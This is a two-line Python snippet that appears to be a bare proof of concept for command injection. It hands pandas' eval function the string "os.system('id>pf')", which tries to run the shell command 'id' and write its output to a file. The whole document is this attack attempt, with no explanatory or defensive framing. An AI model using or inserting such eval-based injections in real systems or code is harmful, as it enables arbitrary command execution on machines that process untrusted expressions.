import pandas as pd, os
pd.eval("os.system('id>pf')")
